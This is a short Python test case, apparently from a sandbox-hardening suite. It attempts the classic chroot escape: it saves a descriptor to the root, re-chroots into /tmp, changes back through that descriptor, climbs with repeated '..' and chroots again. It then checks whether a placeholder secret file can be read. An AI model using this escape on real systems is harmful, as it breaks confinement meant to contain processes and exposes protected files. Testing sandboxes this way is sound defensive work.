"""Leave a chroot by a second chroot and a descriptor of the folder above.

See: https://man7.org/linux/man-pages/man2/chroot.2.html
Layers: main bare
Control: yes
"""


def attempt():
    try:
        above = os.open("/", os.O_RDONLY)
    except OSError:
        above = 3
    must(call(161, b"/tmp"))
    must(call(81, above))
    for _ in range(32):
        call(80, b"..")
    call(161, b".")
    with open("@SECRET_FILE@") as file:
        return float(file.read() == "@SECRET@")
